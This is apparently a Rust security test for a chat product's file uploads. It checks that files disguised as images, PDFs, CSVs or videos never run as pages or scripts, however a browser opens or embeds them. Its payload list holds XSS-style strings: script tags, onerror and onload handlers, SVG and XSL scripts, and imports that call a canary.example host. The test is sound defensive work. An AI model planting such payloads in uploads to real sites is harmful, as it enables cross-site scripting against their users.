//! Files that would like to be pages or scripts, opened as directly as anybody can: by their address
//! in a tab, by a link, and drawn into a stranger's page in every way that pages know.

use std::collections::BTreeMap;

use pulina_shared::wire::content::FileInfo;
use pulina_shared::wire::http::DownloadLink;
use pulina_tests::chromium::tab::Tab;
use pulina_tests::door::Answer;
use pulina_tests::harm;
use pulina_tests::pictures;
use pulina_tests::stage::Stage;
use pulina_tests::upload::Sender;
use serde_json::json;

/// What runs where it is taken for what it says.
const CONTENTS: [&str; 6] = [
    "<!doctype html><script>top.__executed=1;fetch('//canary.example/x')</script><img src=x onerror=top.__executed=1>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='top.__executed=1'><script>top.__executed=1</script><image href='//canary.example/x'/></svg>",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>top.__executed=1</script></html>",
    "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='//canary.example/x.xsl'?><x/>",
    "/**/top.__executed=1;import('//canary.example/x.js');//",
    "@import '//canary.example/x.css';*{background:url(//canary.example/x)}",
];

/// A file name's ending, and the bytes of a file that is what the ending says and holds a content.
type Disguise = (&'static str, fn(&str) -> Vec<u8>);

const DISGUISES: [Disguise; 10] = [
    ("html", |content| content.as_bytes().to_vec()),
    ("svg", |content| content.as_bytes().to_vec()),
    ("txt", |content| content.as_bytes().to_vec()),
    ("csv", |content| [b"\xef\xbb\xbf", content.as_bytes()].concat()),
    ("gif", |content| pictures::gif_that_says(content)),
    ("png", |content| pictures::png_that_says(content)),
    ("jpg", |content| pictures::jpeg_that_says(content)),
    ("webp", |content| pictures::webp_that_says(content)),
    ("pdf", |content| [b"%PDF-1.7\n", content.as_bytes(), b"\n%%EOF"].concat()),
    ("mp4", |content| pictures::film(4_096, content.bytes().cycle())),
];

#[tokio::test]
async fn no_file_is_more_than_a_file_however_it_is_opened() {
    let (stage, canary) = Stage::with_canary().await;
    let agent = stage.site.agent().await;
    let mut visitor = stage.site.visitor().await;
    visitor.says("Look at these").await;
    let by_visitor = Sender::Visitor(&visitor);
    let by_agent = Sender::Agent(&agent, &visitor.begun.conversation);
    let desk = stage.agent().await.tab;
    let page = stage.visitor("plain.html").await.tab;
    let mut outcomes: BTreeMap<String, usize> = BTreeMap::new();
    for (ending, disguise) in DISGUISES {
        for (n, content) in CONTENTS.iter().enumerate() {
            let name = format!("{n}.{ending}");
            // Each side may send fifty a day.
            let sender = if n % 2 == 0 { &by_visitor } else { &by_agent };
            let outcome = match sender.uploads(&name, &disguise(content)).await {
                Ok(file) => {
                    is_opened_everywhere(&stage, &desk, &page, sender, &file).await;
                    format!("{ending}: taken as {}", file.media_type)
                }
                Err(problem) => format!("{ending}: {}", problem.code),
            };
            *outcomes.entry(outcome).or_default() += 1;
        }
    }
    println!("{outcomes:#?}");
    assert_eq!(outcomes.values().sum::<usize>(), 60);
    assert_eq!(outcomes.get("html: file_type"), Some(&CONTENTS.len()));
    assert_eq!(outcomes.get("svg: file_type"), Some(&CONTENTS.len()));
    for tab in [&desk, &page] {
        assert_eq!(tab.evaluate("typeof window.__executed").await, "undefined");
        assert_eq!(tab.n_dialogs(), 0);
    }
    canary.was_left_alone();
}

async fn is_opened_everywhere(stage: &Stage, desk: &Tab, page: &Tab, sender: &Sender<'_>, file: &FileInfo) {
    let link: DownloadLink = sender.asks("POST", &format!("files/{}/link", file.id)).granted().await;
    let origin = stage.door().origin();
    let own = sender.path(&file.id);
    for (path, answer) in [
        (own.clone(), sender.reads(&file.id, "").answer().await),
        (format!("{own}?inline=1"), sender.reads(&file.id, "?inline=1").answer().await),
        (link.path.clone(), stage.door().get(&link.path).answer().await),
        (
            format!("{}?inline=1", link.path),
            stage.door().get(&format!("{}?inline=1", link.path)).answer().await,
        ),
    ] {
        is_no_page(&answer, file);
        // Signed in, by the address line: shown as a picture or film, or not shown but saved.
        let tab = desk.beside(&format!("{origin}{path}")).await;
        if let Some(tab) = tab {
            // The browser's own page around a picture has a style of its own, which the policy forbids.
            let harm = harm::done_to(&tab).await;
            let is_harm = |what: &&String| !what.starts_with("Applying inline style");
            assert_eq!(harm.iter().find(is_harm), None, "{} at {path}", file.name);
            tab.closes().await;
        }
    }
    let script = format!("({DRAW})({})", json!(format!("{origin}{}?inline=1", link.path)));
    page.evaluate(&script).await;
}

fn is_no_page(answer: &Answer, file: &FileInfo) {
    assert_eq!(answer.status, 200, "{file:?}");
    assert_eq!(answer.header("content-type").split(';').next(), Some(file.media_type.as_str()));
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    assert_eq!(answer.header("cross-origin-resource-policy"), "same-origin");
    let policy = answer.header("content-security-policy");
    assert!(policy.contains("sandbox") && policy.contains("default-src 'none'"), "{policy}");
    let is_inline = answer.header("content-disposition").starts_with("inline");
    let may_be_inline = ["image/", "video/", "audio/"].iter().any(|kind| file.media_type.starts_with(kind));
    assert!(!is_inline || (may_be_inline && file.media_type != "image/svg+xml"), "{file:?}");
}

/// Draws an address into the page in every way, and waits until each has come to an end.
const DRAW: &str = r"address => Promise.all(
  [
    ['script', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data'], ['img', 'src'],
    ['link', 'href', { rel: 'stylesheet' }], ['script', 'src', { type: 'module' }], ['video', 'src'],
  ].map(([name, attribute, others]) => new Promise(done => {
    const element = Object.assign(document.createElement(name), others, { onload: done, onerror: done, onloadedmetadata: done });
    element[attribute] = address;
    document.body.append(element);
    // Plug-in elements do not always tell their end.
    setTimeout(done, 300);
  }).then(() => 0)).concat(import(address).catch(() => 0), fetch(address).catch(() => 0)),
).then(() => document.querySelectorAll('iframe, embed, object, body > img, video').forEach(element => element.remove())).then(() => 0)";
